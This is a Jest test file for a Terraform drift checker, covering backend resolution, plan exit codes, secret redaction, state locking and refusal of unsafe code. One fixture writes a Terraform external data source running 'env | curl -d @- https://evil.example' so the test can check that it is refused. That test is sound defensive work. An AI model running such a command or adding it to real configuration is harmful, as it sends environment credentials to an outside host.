import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  createTerraformStandIn,
  planFixturePath,
} from '@groundwork/stand-in-test-utils';
import {
  backendForLocation,
  CliRefreshOnlySource,
} from './CliRefreshOnlySource';
import { CliSettings, runRefreshOnly } from './refreshOnly';

// A real plan with resource_drift (Terraform 1.0.11, infracost's test suite).
const DRIFT_PLAN = planFixturePath(
  '06b-infracost-instance_with_attachment_after_deploy.json',
);
const SECRET = 'wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY';

const backend = backendForLocation(
  's3://acme-tfstate/payments-api/prod.tfstate',
  {
    type: 's3',
    settings: {
      bucket: 'configured',
      key: '{kind}/{name}.tfstate',
      region: 'eu-west-1',
      encrypt: true,
      use_lockfile: true,
    },
  },
)!;

describe('runRefreshOnly against the Terraform stand-in', () => {
  const tf = createTerraformStandIn({ plan: { file: DRIFT_PLAN } });
  const code = fs.mkdtempSync(path.join(os.tmpdir(), 'gw-drift-code-'));
  fs.writeFileSync(
    path.join(code, 'main.tf'),
    'terraform {\n  backend "s3" {}\n}\n',
  );
  // A provider cache a developer left behind: never used by the check.
  fs.mkdirSync(path.join(code, '.terraform'));
  const settings: CliSettings = {
    binary: tf.binary,
    flavour: 'terraform',
    passThrough: ['AWS_*'],
    pluginCacheDir: tf.pluginCacheDir,
    lockTimeoutSeconds: 0,
    cancelGraceMs: 2000,
  };
  const env = {
    PATH: process.env.PATH,
    AWS_SECRET_ACCESS_KEY: SECRET,
    GITHUB_TOKEN: 'ghp_never_passed',
  };
  const check = () => runRefreshOnly({ settings, codeDir: code, backend, env });

  beforeEach(() =>
    tf.configure({
      drift: undefined,
      refreshError: undefined,
      stateLock: false,
    }),
  );
  afterAll(() => {
    tf.remove();
    fs.rmSync(code, { recursive: true, force: true });
  });

  it('fills the backend from the state location and the configured backend', () => {
    expect(backend).toEqual({
      type: 's3',
      settings: {
        bucket: 'acme-tfstate',
        key: 'payments-api/prod.tfstate',
        region: 'eu-west-1',
        encrypt: true,
        use_lockfile: true,
      },
    });
    expect(backendForLocation('gs://acme-tfstate/payments-api/prod')).toEqual({
      type: 'gcs',
      settings: { bucket: 'acme-tfstate', prefix: 'payments-api/prod' },
    });
    expect(backendForLocation('hcp:acme/payments')).toBeUndefined();
  });

  it('exit 0: in sync', async () => {
    expect(await check()).toEqual({ result: 'in-sync', resources: [] });
    const calls = tf.calls().slice(-2);
    expect(calls.map(c => [c.argv, c.exitCode])).toEqual([
      [['init', '-input=false', '-no-color'], 0],
      [
        [
          'plan',
          '-refresh-only',
          '-detailed-exitcode',
          '-lock=true',
          '-lock-timeout=0s',
          '-input=false',
          '-no-color',
          expect.stringMatching(/^-out=.*\.tfplan$/),
        ],
        0,
      ],
    ]);
    // The remote state terraform:apply uses, written over the code's backend.
    expect(calls[0].backend).toEqual({ type: 's3', config: backend.settings });
    // Contained: a copy of the code, the allow-listed environment only.
    expect(calls[0].cwd).not.toBe(code);
    expect(fs.existsSync(calls[0].cwd)).toBe(false);
    expect(calls[0].envNames).toContain('AWS_SECRET_ACCESS_KEY');
    expect(calls[0].envNames).not.toContain('GITHUB_TOKEN');
    expect(fs.readdirSync(code).sort()).toEqual(['.terraform', 'main.tf']);
  });

  it('exit 2: drifted, with the attributes from show -json', async () => {
    tf.configure({ drift: { fromPlan: DRIFT_PLAN } });
    expect(await check()).toEqual({
      result: 'drifted',
      reason: undefined,
      resources: [
        {
          address: 'aws_default_subnet.default',
          action: 'update',
          attributes: [],
        },
        {
          address: 'aws_instance.ec2',
          action: 'update',
          attributes: ['ebs_block_device[0]'],
        },
      ],
    });
    expect(
      tf
        .calls()
        .slice(-2)
        .map(c => [c.argv[0], c.exitCode]),
    ).toEqual([
      ['plan', 2],
      ['show', 0],
    ]);
    expect(tf.lockHeld()).toBe(false);
  });

  it('exit 1: unknown, with the error and no secret', async () => {
    tf.configure({
      refreshError: `error configuring S3 Backend: InvalidClientTokenId (secret ${SECRET})`,
    });
    const result = await check();
    expect(result.result).toBe('unknown');
    expect(result.reason).toContain(
      'terraform plan -refresh-only failed (exit 1)',
    );
    expect(result.reason).toContain('InvalidClientTokenId');
    expect(result.reason).not.toContain(SECRET);
    expect(result.reason).toContain('***');
  });

  it('is unknown, saying the state is locked, when a run holds the lock', async () => {
    tf.configure({ stateLock: true });
    const result = await check();
    expect(result.result).toBe('unknown');
    expect(result.reason).toContain(
      'The Terraform state is locked by another run',
    );
    expect(tf.calls().slice(-1)[0].argv).toContain('-lock=true');
  });

  it('refuses a backend that is not fit for state (no lock), without running Terraform', async () => {
    const before = tf.calls().length;
    const result = await runRefreshOnly({
      settings,
      codeDir: code,
      backend: {
        type: 's3',
        settings: { bucket: 'b', key: 'k', region: 'eu-west-1', encrypt: true },
      },
      env,
    });
    expect(result.result).toBe('unknown');
    expect(result.reason).toContain('the s3 backend needs a lock');
    expect(tf.calls()).toHaveLength(before);
  });

  it('refuses code that would run a program at plan time, as terraform:apply does, unless the environment allows it', async () => {
    const hostile = fs.mkdtempSync(path.join(os.tmpdir(), 'gw-drift-code-'));
    try {
      fs.writeFileSync(
        path.join(hostile, 'main.tf'),
        [
          'terraform {\n  backend "s3" {}\n}',
          'data "external" "creds" {\n  program = ["sh", "-c", "env | curl -d @- https://evil.example"]\n}',
          'module "shared" {\n  source = "../../modules/shared"\n}',
        ].join('\n'),
      );
      const before = tf.calls().length;
      const refused = await runRefreshOnly({
        settings,
        codeDir: hostile,
        backend,
        env,
        codePolicy: {
          environment: 'prod',
          key: 'terraform.environments.prod',
          allowed: [],
        },
      });
      expect(refused.result).toBe('unknown');
      expect(refused.reason).toContain(
        'The code in the root module would run programs or commands, or read beyond its working directory, when Terraform plans or applies, and prod does not allow it; nothing was run.',
      );
      expect(refused.reason).toContain('(external)');
      expect(refused.reason).toContain('(files-outside)');
      expect(refused.reason).toContain(
        'terraform.environments.prod.allowPlanTimeCode: [external, files-outside]',
      );
      // Without a policy, nothing is allowed either.
      expect(
        (await runRefreshOnly({ settings, codeDir: hostile, backend, env }))
          .reason,
      ).toContain('nothing was run');
      expect(tf.calls()).toHaveLength(before);

      // Allowed for the environment (as terraform:apply would run it): checked.
      const allowed = await runRefreshOnly({
        settings,
        codeDir: hostile,
        backend,
        env,
        codePolicy: {
          environment: 'prod',
          key: 'terraform.environments.prod',
          allowed: ['external', 'files-outside'],
        },
      });
      expect(allowed).toEqual({ result: 'in-sync', resources: [] });
    } finally {
      fs.rmSync(hostile, { recursive: true, force: true });
    }
  });

  it('as a drift source: says when there is no code for the environment', async () => {
    const source = new CliRefreshOnlySource({
      settings,
      configuredBackend: () => undefined,
      codeFor: async () => undefined,
      env,
    });
    expect(source.covers('s3://acme-tfstate/x.tfstate')).toBe(true);
    expect(source.covers('hcp:acme/x')).toBe(false);
    expect(
      await source.check({
        entityRef: 'component:default/payments-api',
        environment: 'prod',
        stateLocation: 's3://acme-tfstate/payments-api/prod.tfstate',
      }),
    ).toMatchObject({
      result: 'unknown',
      reason:
        'The portal has no Terraform code for component:default/payments-api in prod to check drift with.',
    });
  });
});
